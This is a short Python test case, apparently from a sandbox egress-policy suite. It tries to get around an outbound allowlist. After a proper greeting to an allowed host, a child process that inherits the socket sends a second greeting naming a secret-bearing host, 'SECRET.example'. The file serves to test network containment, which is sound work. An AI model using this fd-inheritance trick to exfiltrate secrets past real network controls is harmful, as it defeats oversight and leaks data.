# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: on a connection with a proper greeting, a program that another program started sends a
#   second greeting, for another host
# proof: word
# needs: resolver
import os
import subprocess

from attack import SECRET, at_allowed, attempt, child, greeting


def say(out):
    out.send(greeting("api.allowed.example"))
    os.set_inheritable(out.fileno(), True)
    again = greeting(SECRET + ".example")
    child(
        "import os; os.write(%d, %r)" % (out.fileno(), again),
        close_fds=False,
        stderr=subprocess.DEVNULL,
    )


@attempt
def send():
    return at_allowed(say)
